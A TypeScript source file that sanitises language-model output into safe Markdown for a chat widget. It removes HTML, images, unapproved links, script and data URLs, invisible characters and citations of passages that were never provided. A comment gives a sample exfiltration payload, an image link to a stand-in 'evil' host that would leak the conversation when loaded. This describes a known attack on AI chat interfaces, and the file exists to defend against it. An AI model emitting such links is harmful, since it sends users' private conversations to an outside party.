import { stripInvisible } from './invisible';
import { isAllowedLink, type LinkPolicy } from './link-policy';

export interface SanitizeOptions {
  links: LinkPolicy;
  /** Citations `[n]` above this number point at nothing and are removed. */
  citationCount: number;
}

/** Marks a link already approved, so the bare-URL pass leaves it alone (private-use characters are removed from input first). */
const PLACEHOLDER = (index: number) => `\uE000${index}\uE000`;

/**
 * Turns model output into the plain Markdown the widget renders: no HTML, no images (an image
 * loads by itself, so `![](https://evil/?q=…)` would leak the conversation without a click),
 * no links to hosts the tenant did not allow, no reference definitions, no invisible
 * characters, no citations of passages that were not given.
 */
export function sanitizeMarkdown(text: string, options: SanitizeOptions): string {
  const kept: string[] = [];
  const keep = (value: string) => PLACEHOLDER(kept.push(value) - 1);
  const allowed = (url: string) => isAllowedLink(url, options.links);

  let out = stripInvisible(text)
    .replace(/[\uE000-\uF8FF]/g, '')
    .replace(/&lt;/gi, '<')
    .replace(/&gt;/gi, '>')
    .replace(/&quot;/gi, '"')
    .replace(/&#0*39;|&apos;/gi, "'")
    .replace(/&amp;/gi, '&')
    .replace(/<!--[\s\S]*?(-->|$)/g, '')
    .replace(/<(https?:\/\/[^\s>]+)>/gi, (_, url: string) => (allowed(url) ? keep(url) : ''))
    .replace(/<[/!?]?[A-Za-z][^>]*(>|$)/g, '')
    .replace(/!\[[^\]]*\]\([^)]*\)?/g, '')
    .replace(/!\[[^\]]*\](\[[^\]]*\])?/g, '')
    .replace(/^ {0,3}\[[^\]]+\]:.*$\n?/gm, '')
    .replace(
      /\[([^\]]*)\]\(\s*<?([^)\s>]*)>?(?:\s+["'(][^)]*)?\)/g,
      (_, label: string, url: string) => (allowed(url) ? keep(`[${label}](${url})`) : label),
    )
    .replace(/\[([^\]\d][^\]]*)\]\[[^\]]*\]/g, '$1')
    .replace(/\b(?:https?:\/\/|www\.)[^\s<>()[\]]+/gi, (url) =>
      allowed(url.startsWith('www.') ? `https://${url}` : url) ? url : '',
    )
    .replace(/\b(?:javascript|data|vbscript|file):[^\s)]+/gi, '')
    .replace(/\[(\d{1,3})\]/g, (citation, n: string) =>
      Number(n) >= 1 && Number(n) <= options.citationCount ? citation : '',
    );
  out = out.replace(/\uE000(\d+)\uE000/g, (_, index: string) => kept[Number(index)] ?? '');
  return out;
}
